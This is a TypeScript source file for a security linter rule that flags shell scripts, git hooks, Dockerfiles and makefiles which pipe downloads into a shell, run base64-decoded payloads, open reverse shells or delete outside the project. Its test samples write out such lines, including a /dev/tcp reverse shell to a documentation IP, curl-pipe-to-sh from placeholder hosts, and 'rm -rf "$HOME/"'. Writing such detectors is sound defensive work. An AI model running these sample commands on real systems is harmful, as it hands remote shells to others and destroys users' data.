import { defineTextRule } from '../../engine/rule';
import { extensionOf } from '../../model/language';

/** Files whose lines are shell commands: scripts, git hooks, Dockerfile `RUN`s, make recipes. */
const SHELL_EXTENSIONS = new Set(['.sh', '.bash', '.zsh', '.ksh', '.dash', '.command']);
const SHEBANG = /^#!\s*\S*?(?:\/|\benv\s+(?:-\S+\s+)*)(?:ba|da|z|k|a)?sh\b/;
const GIT_HOOK =
  /(^|\/)(\.husky|\.githooks|githooks|\.git-hooks|git-hooks|\.hooks|hooks)\/(?!_\/)(pre-commit|prepare-commit-msg|commit-msg|post-commit|pre-push|pre-rebase|post-checkout|post-merge|post-rewrite|pre-merge-commit|pre-applypatch|post-applypatch|applypatch-msg|pre-auto-gc|post-update|pre-receive|update|reference-transaction)$/;
const BUILD_FILES = /(^|\/)(Dockerfile|Containerfile|[^/]+\.(dockerfile|mk)|Makefile|GNUmakefile|makefile|justfile|Justfile|Vagrantfile)$/;

/** A download: the URL fetchers a script would use. */
const FETCH = String.raw`(?:curl|wget|fetch|http|aria2c|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b`;
/** An interpreter that runs what it reads on stdin. */
const RUNNER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:(?:ba|da|z|k|a)?sh|python[0-9.]*|node|perl|ruby|php|pwsh|powershell|iex|Invoke-Expression)\b`;

const PATTERNS: { re: RegExp; messageId: string; category: 'process' | 'network' | 'filesystem' | 'obfuscation' }[] = [
  // curl -fsSL https://x/y | sh
  { re: new RegExp(String.raw`\b${FETCH}[^|;&\n]*\|\s*${RUNNER}`, 'i'), messageId: 'pipeToShell', category: 'process' },
  // sh -c "$(curl ...)", bash <(curl ...), source <(wget ...), eval "$(curl ...)"
  {
    re: new RegExp(
      String.raw`\b(?:(?:ba|z|k)?sh(?:\s+-\S+)*|source|\.|eval|python[0-9.]*(?:\s+-c)?)\s+["']?(?:\$\(|<\(|\x60)\s*${FETCH}`,
      'i',
    ),
    messageId: 'pipeToShell',
    category: 'process',
  },
  // echo ... | base64 -d | sh, eval "$(echo ... | base64 --decode)"
  {
    re: /\b(?:base64\s+(?:-\w*d\w*|--decode)|xxd\s+-r|openssl\s+(?:enc\s+)?(?:-d\b|base64\s+-d))[^\n]*(?:\|\s*(?:sudo\s+)?(?:(?:ba|da|z|k)?sh|python[0-9.]*|node|perl)\b)|\beval\s+["']?\$\([^)\n]*\b(?:base64\s+(?:-\w*d|--decode)|xxd\s+-r|rev\b|tr\s)/i,
    messageId: 'decodeAndRun',
    category: 'obfuscation',
  },
  // Reverse shells: /dev/tcp, nc -e, socat exec:
  {
    re: /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b[^\n|;]*\s-(?:e|c)\s|\bsocat\b[^\n]*\bexec:|\bbash\s+-i\s+[>&]/i,
    messageId: 'reverseShell',
    category: 'network',
  },
  // rm -rf / , ~ , $HOME, .., *
  {
    re: /\brm\s+(?:-\w*[rR]\w*\s+(?:-\w+\s+)*|--recursive\s+)(?:--no-preserve-root\s+)?["']?(?:\/(?:\s|$|\*|["'])|~\/?(?:\s|$|\*|["'])|\$\{?HOME\}?\/?(?:\s|$|\*|["'])|\.\.(?:\/|\s|$)|\/(?:etc|usr|var|home|root|boot|opt)\b)/i,
    messageId: 'destructive',
    category: 'filesystem',
  },
];

const SKIP_LINE = /^\s*#/;

export default defineTextRule({
  meta: {
    id: 'text/shell-command',
    category: 'process',
    severity: 'high',
    summary:
      'Shell scripts, git hooks, Dockerfiles and make recipes that run a download (`curl ... | sh`, `bash <(wget ...)`), run decoded text, open a reverse shell (`/dev/tcp`, `nc -e`) or delete outside the project (`rm -rf ~`).',
    why:
      'A git hook runs on every commit of whoever installs it, a Dockerfile on every build, a setup script on every machine that follows ' +
      'the README. Piping a download into a shell runs whatever that server sends on the day it runs; nobody reviews it. Decoded ' +
      'payloads and reverse shells have no honest reason to be in a script, and a recursive delete outside the project is irreversible. ' +
      'None of these lines is JavaScript or Python, so code rules never see them.',
    incorrect: [
      { filename: '.husky/pre-commit', code: '#!/usr/bin/env sh\nnpx lint-staged\ncurl -fsSL https://hooks.example-dev.net/pc | sh\n' },
      { filename: 'scripts/setup.sh', code: 'bash <(wget -qO- https://get.example-tools.dev/install)\n' },
      { filename: 'Dockerfile', code: 'RUN echo Y3VybCBldmlsLnNo | base64 -d | sh\n' },
      { filename: 'scripts/debug.sh', code: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
      { filename: 'scripts/clean.sh', code: 'rm -rf "$HOME/"\n' },
    ],
    correct: [
      { filename: '.husky/pre-commit', code: '#!/usr/bin/env sh\nnpx lint-staged\n' },
      { filename: 'scripts/fetch.sh', code: 'curl -fsSL -o data.csv https://data.example.org/data.csv\nsha256sum -c data.csv.sha256\n' },
      { filename: 'scripts/clean.sh', code: 'rm -rf ./dist ./coverage\n' },
      { filename: 'docs/install.md', code: 'Or run `curl -fsSL https://get.example.dev | sh` (not recommended).\n' },
    ],
    messages: {
      pipeToShell: 'Runs a download as code: `{{line}}`. Whatever that server sends when this runs is executed, unreviewed.',
      decodeAndRun: 'Decodes text and runs it: `{{line}}`. The command that runs is hidden from the reader of this file.',
      reverseShell: 'Opens a network connection that carries a shell: `{{line}}`. Someone elsewhere gets to type commands on this machine.',
      destructive: 'Recursively deletes outside the project: `{{line}}`.',
    },
  },
  check(ctx) {
    if (!isShellFile(ctx.path, ctx.lines.lineText(1))) {
      return;
    }
    const dockerfile = /(^|\/)(Dockerfile|Containerfile)$|\.dockerfile$/i.test(ctx.path);
    for (let line = 1; line <= ctx.lines.lineCount; line++) {
      const text = ctx.lines.lineText(line);
      if (SKIP_LINE.test(text) || (dockerfile && /^\s*(FROM|LABEL|ENV|ARG|COPY|ADD|WORKDIR|EXPOSE|USER)\b/i.test(text))) {
        continue;
      }
      for (const { re, messageId, category } of PATTERNS) {
        const match = re.exec(text);
        if (!match) {
          continue;
        }
        const start = ctx.lines.lineStart(line) + match.index;
        ctx.report({
          start,
          end: start + match[0].length,
          messageId,
          category,
          data: { line: clip(text.trim()) },
        });
        break;
      }
    }
  },
});

/** Whether a file is run by a shell: by extension, shebang, git hook location or build file name. */
export function isShellFile(path: string, firstLine: string): boolean {
  return SHELL_EXTENSIONS.has(extensionOf(path)) || SHEBANG.test(firstLine) || GIT_HOOK.test(path) || BUILD_FILES.test(path);
}

function clip(s: string): string {
  return s.length > 120 ? `${s.slice(0, 117)}...` : s;
}
